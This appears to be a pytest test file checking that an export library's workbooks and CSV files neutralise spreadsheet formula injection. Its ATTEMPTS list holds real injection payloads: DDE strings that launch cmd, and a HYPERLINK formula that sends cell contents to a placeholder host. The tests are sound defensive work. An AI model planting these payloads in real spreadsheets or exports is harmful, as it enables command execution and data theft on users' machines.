"""No text from data becomes a formula: every text column of every workbook and CSV that leaves, filled with attempts."""

from __future__ import annotations

import csv
import datetime as dt
import re
import zipfile

import documents
import openpyxl
import pandas as pd
import pytest
from letterbox import desa, heading
from stories import NOW, clock

from blankspot.ledger import Event, Ledger
from blankspot.ledger.workbook import BASELINE_SHEET, export
from blankspot.out.letters.attachments import write_list
from blankspot.out.reports.workbook import write_workbook as write_report
from blankspot.out.tables import headings_of, write_csv, write_xlsx
from blankspot.out.templates import write_templates
from blankspot.out.workbook import Hidden, write_workbook
from blankspot.schema import TABLES

ATTEMPTS = (
    '=HYPERLINK("http://contoh.invalid/?x="&A1,"klik")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "=1+1",
    "http://contoh.invalid",
    "mailto:x@contoh.invalid",
    "{=1+1}",
)
DAY = dt.datetime(2022, 12, 26)  # noqa: DTZ001 - a cell has no zone
RUNS = re.compile(r"^\s*[=+\-@\t\r]")


def assert_plain_workbook(path, *expected):
    """Check that the workbook has no formula, no link out of it and no macro, and that the texts `expected` are in it as text."""
    with zipfile.ZipFile(path) as archive:
        names = archive.namelist()
        sheets = [archive.read(name) for name in names if name.startswith("xl/worksheets/sheet")]
    assert sheets
    assert not any(re.search(rb"<f[ >/]|<hyperlink[^>]*r:id", sheet) for sheet in sheets)
    assert not any("vbaProject" in name or "externalLink" in name for name in names)
    cells = [
        cell
        for sheet in openpyxl.load_workbook(path)
        for row in sheet.iter_rows()
        for cell in row
        if cell.value is not None
    ]
    assert all(cell.data_type != "f" for cell in cells)
    texts = {"".join(str(cell.value).split()) for cell in cells if cell.data_type == "s"}
    assert {"".join(text.split()) for text in expected} <= texts


def filled(schema):
    """Return a table of which every text column holds every attempt, once as the whole and once as its beginning."""
    columns = {}
    for name, column in schema.columns.items():
        kind = column.metadata["kind"]
        if kind in ("text", "code", "choice"):
            columns[name] = pd.Series([*ATTEMPTS, *(f"{text} ekor" for text in ATTEMPTS)], dtype="str")
        elif kind in ("number", "integer"):
            columns[name] = pd.Series(range(2 * len(ATTEMPTS)))
        elif kind == "date":
            columns[name] = pd.Series([pd.Timestamp(DAY)] * 2 * len(ATTEMPTS))
    return pd.DataFrame(columns)


@pytest.mark.parametrize("table", TABLES)
def test_every_declared_table(tmp_path, table):
    frame = filled(TABLES[table])
    assert_plain_workbook(write_xlsx(tmp_path / "t.xlsx", {"Uji": (frame, headings_of(TABLES[table]))}), *ATTEMPTS)
    with write_csv(tmp_path / "t.csv", frame).open(encoding="utf-8-sig", newline="") as lines:
        rows = list(csv.DictReader(lines))
    assert len(rows) == len(frame)
    texts = [name for name in frame if not pd.api.types.is_numeric_dtype(frame[name].dtype)]
    for row, given in zip(rows, frame.to_dict("records"), strict=True):
        for name in texts:
            assert not RUNS.match(row[name]), (name, row[name])
            if isinstance(given[name], str):
                assert row[name].removeprefix("'") == given[name]


@pytest.mark.parametrize("attempt", ATTEMPTS)
def test_the_workbook_for_editing(tmp_path, attempt):
    code = "32.04.05.2001"
    fields = dict.fromkeys(("partner", "evidence", "document", "note", "reason"), attempt)
    said = dict.fromkeys(("constraint", "follow_up", "owner", "note"), attempt)
    with Ledger.open(":memory:", origin="dinas", clock=clock) as ledger:
        ledger.append(
            [
                Event(kind="identified", happened_on=dt.date(2022, 1, 1), village_code=code, fields=fields),
                Event(kind="money", happened_on=dt.date(2022, 1, 2), village_code=code, fields={"amount_rp": 1, "document": attempt, "note": attempt}),
                Event(kind="note", happened_on=dt.date(2022, 1, 2), village_code=code, fields=said),
            ]
        )  # fmt: skip
        places = pd.DataFrame({"village_code": [code], "village_name": [attempt], "district": [attempt]})
        made = export(ledger, now=NOW, version=attempt, villages=places)
    hidden = Hidden(BASELINE_SHEET, made.baseline)
    path = write_workbook(
        tmp_path / "b.xlsx",
        made.sheets,
        made.frames,
        hidden=hidden,
        origin=attempt,
        as_of=DAY.date(),
        created=NOW,
    )
    assert_plain_workbook(path, attempt)


def test_the_report(tmp_path):
    columns = (documents.column("name", ATTEMPTS[0], ATTEMPTS[0]), documents.column("code", "Kode", "Code", "code"))
    rows = [{"name": text, "code": text} for text in ATTEMPTS]
    section = documents.Section(
        key="s",
        title=documents.Text(ATTEMPTS[0], ATTEMPTS[0]),
        lead=documents.Text(ATTEMPTS[1], ATTEMPTS[1]),
        items=(documents.table(columns=columns, rows=rows, title=documents.Text(ATTEMPTS[3], ATTEMPTS[3])),),
    )
    assert_plain_workbook(write_report(tmp_path / "r.xlsx", documents.calm(section, title=ATTEMPTS[0])), *ATTEMPTS)
    assert_plain_workbook(write_report(tmp_path / "h.xlsx", documents.hostile()))


def test_the_list_of_a_letter(tmp_path):
    rest = dict.fromkeys(("village_type", "district", "regency", "reason", "stage", "proposal"), ATTEMPTS[0])
    told = heading(number=ATTEMPTS[0], topic=ATTEMPTS[1])
    assert_plain_workbook(write_list(tmp_path / "l.xlsx", desa(*ATTEMPTS, **rest), told), *ATTEMPTS)


def test_the_templates(tmp_path):
    for path in write_templates(tmp_path):
        assert_plain_workbook(path)
